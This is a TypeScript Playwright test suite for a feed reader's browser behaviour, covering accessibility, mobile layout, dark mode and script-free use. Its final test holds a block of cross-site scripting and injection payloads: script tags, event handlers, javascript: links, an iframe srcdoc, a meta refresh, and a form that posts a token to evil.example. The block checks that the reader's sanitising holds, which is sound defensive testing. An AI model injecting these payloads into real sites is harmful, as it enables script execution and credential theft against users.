// The look of the reader in a real browser, and what a hostile entry cannot do there.
import axe from 'axe-core';
import type { Browser } from 'playwright-core';
import { suite } from 'uvu';
import * as assert from 'uvu/assert';
import type { SafeHtml } from '../../src/model/entry.ts';
import { begin } from '../begin.ts';
import type { FakeReading } from '../fakes/reading.ts';
import { opened } from './opened.ts';
import { heard, sampleReading } from './sample.ts';
import { openBrowser } from '../servers/chromium.ts';
import { until } from '../until.ts';

const browsing = suite<{ browser: Browser }>('reader in a browser');

begin(browsing, async (open, atEnd) => {
  open.browser = await openBrowser();
  atEnd(() => open.browser.close());
});

const PATHS = [
  '/',
  '/?group=Friends',
  '/mentions',
  '/starred',
  '/search?words=geese',
  '/following',
  '/blocks',
  '/entry/7',
  '/entry/2',
  '/entry/2/block',
  '/entry/6/reply',
  '/compose',
  '/written?file=posts/2026/a.md',
  '/nowhere',
];

/** A reading in which every page has something on it. */
function full(): FakeReading {
  return sampleReading({
    blocks: [
      { what: 'spam.example', how: 'block' },
      { what: '"buy now"', how: 'mute', until: '2025-12-24' },
    ],
    deploy: async () => ({ problems: [], said: 'Deployed.' }),
  });
}

for (const colorScheme of ['light', 'dark'] as const) {
  browsing(`axe finds nothing on any page, ${colorScheme}`, async ({ browser }) => {
    await opened({ browser, reading: full(), colorScheme, may: /404/ }, async (page, url) => {
      for (const path of PATHS) {
        await page.goto(new URL(path, url).href);
        // The policy of the page lets in no script of others; what playwright evaluates is not bound by it.
        await page.evaluate(axe.source);
        const { violations } = await page.evaluate(() => (globalThis as unknown as { axe: typeof axe }).axe.run());
        const grave = violations.map(({ id, impact, nodes }) => [id, impact, nodes.map(({ html }) => html)]);
        assert.equal(grave, [], path);
      }
    });
  });
}

browsing('a phone never scrolls sideways, whatever is open', async ({ browser }) => {
  await opened({ browser, reading: full(), viewport: { width: 360, height: 740 }, may: /404/ }, async (page, url) => {
    for (const path of PATHS) {
      await page.goto(new URL(path, url).href);
      for (const details of await page.locator('details > summary:visible').all()) await details.click();
      assert.is(await page.evaluate<number>('document.documentElement.scrollWidth'), 360, path);
    }
    await page.goto(url);
    await page.keyboard.press('?');
    assert.is(await page.evaluate<number>('document.documentElement.scrollWidth'), 360);
  });
});

browsing('dark mode is dark', async ({ browser }) => {
  const red = async (colorScheme: 'light' | 'dark'): Promise<number> => {
    let found = 0;
    await opened({ browser, reading: full(), colorScheme }, async (page) => {
      const colour = await page.evaluate<string>('getComputedStyle(document.documentElement).backgroundColor');
      found = Number(/\d+/.exec(colour)?.[0]);
    });
    return found;
  };
  assert.ok((await red('light')) > 200);
  assert.ok((await red('dark')) < 60);
});

browsing('all of it works without script', async ({ browser }) => {
  const reading = sampleReading();
  await opened({ browser, reading, javaScriptEnabled: false }, async (page, url) => {
    await page.locator('#e7 .star').click();
    await page.waitForURL(`${url}#e7`);
    await page.locator('#e7 .more summary').click();
    await page.locator('#e7').getByText('Mark all above as read').click();
    await until(() => reading.entry(8)?.entry.read === true);
    await page.waitForURL(`${url}#e7`);
    assert.equal(
      [8, 7, 6].map((number) => reading.entry(number)?.entry.read),
      [true, true, false],
    );
    assert.ok(reading.entry(7)?.entry.starred);

    await page.goto(`${url}search`);
    await page.getByLabel('Words in entries').fill('shore');
    await page.keyboard.press('Enter');
    await page.waitForURL(/words=shore/);
    assert.equal(await page.locator('.entry').count(), 1);

    await page.locator('.reply').click();
    await page.locator('#text').fill('From here too.');
    const shown = page.context().waitForEvent('page');
    await page.getByRole('button', { name: 'Preview' }).click();
    assert.is(await (await shown).locator('#preview').innerText(), 'From here too.');
    await page.getByRole('button', { name: 'Write the post' }).click();
    await page.waitForURL(/written/);
    assert.equal(
      reading.written.map(({ text, replyTo }) => [text, replyTo?.url]),
      [['From here too.', 'https://carol.example/7']],
    );
  });
});

// What the inbox would hold, had nothing cleaned it: the reader is the last door.
const HOSTILE = `
<script>window.harmed = 'script'</script><script src="https://evil.example/x.js"></script>
<img src="https://evil.example/none" onerror="window.harmed = 'onerror'" onload="window.harmed = 'onload'">
<a id="click" href="javascript:window.harmed='href'">click</a> <a href="data:text/html,x">data</a>
<div style="position:fixed;inset:0;z-index:9999;background:red" id="main" class="skip">over</div>
<style>body { display: none }</style><link rel="stylesheet" href="https://evil.example/x.css">
<form id="act" action="https://evil.example/" method="post"><input name="token" autofocus><button form="act" name="all" formaction="https://evil.example/">send</button></form>
<iframe src="https://evil.example/" srcdoc="<script>parent.harmed = 'frame'</script>"></iframe>
<object data="https://evil.example/"></object><embed src="https://evil.example/">
<svg onload="window.harmed = 'svg'"><animate onbegin="window.harmed = 'animate'" attributeName="x"/></svg>
<math><mtext><img src="x" onerror="window.harmed = 'math'"></mtext></math>
<meta http-equiv="refresh" content="0;url=https://evil.example/"><base href="https://evil.example/">
<video src="x" onerror="window.harmed = 'video'"></video><audio autoplay src="https://evil.example/a.mp3"></audio>
<img src="https://evil.example/pixel.gif" width="1" height="1"></div></article></main><h1>outside</h1>
<p>${'wide'.repeat(400)}</p><pre>${'wide '.repeat(400)}</pre><table><tr><td>${'wide'.repeat(200)}</td></tr></table>
<img src="https://evil.example/wide.png" width="9000" height="10" alt="wide">\u202Eevil\u2066`;

browsing('a hostile entry runs nothing, asks nothing, and changes nothing outside its box', async ({ browser }) => {
  const reading = sampleReading({
    shown: [
      heard(2),
      heard(1, { html: HOSTILE as SafeHtml, author: { name: '\u202Ennob\u202C\u2067Ann', uri: 'javascript:x' } }),
    ],
  });
  await opened({ browser, reading, viewport: { width: 360, height: 740 } }, async (page, url) => {
    for (const path of ['', 'entry/1']) {
      const asked: string[] = [];
      page.on('request', (request) => asked.push(request.url()));
      await page.goto(url + path);
      await page.getByText('over', { exact: true }).waitFor();
      await page.locator('#e1 a', { hasText: /^click$/ }).click();
      await page.evaluate('scrollTo(0, document.body.scrollHeight)');
      assert.is(await page.evaluate('window.harmed'), undefined, path);
      assert.is(page.url(), url + path);
      const abroad = asked.filter((address) => !address.startsWith(url));
      assert.equal(new Set(abroad.filter((address) => !/none$|wide\.png$/.test(address))), new Set(), path);
      // The frame, and the other entry, are where and what they were.
      assert.equal(
        await page.evaluate(`[document.querySelectorAll('main').length, document.querySelector('main').parentNode.tagName,
          document.forms.length, document.querySelectorAll('script').length, document.querySelectorAll('h1').length,
          document.documentElement.scrollWidth, getComputedStyle(document.body).display]`),
        [1, 'BODY', 2, 1, 1, 360, 'flex'],
        path,
      );
      // What is wider is cut at the edge of the entry, and what would lie over the page is a line in it.
      assert.is(
        await page.locator('#e1 .e-content').evaluate((element) => getComputedStyle(element).overflow),
        'hidden',
      );
      const { width, height } = (await page.getByText('over', { exact: true }).boundingBox()) ?? {};
      assert.ok((width ?? 0) <= 360 && (height ?? 0) < 100);
    }
  });
});

browsing.run();
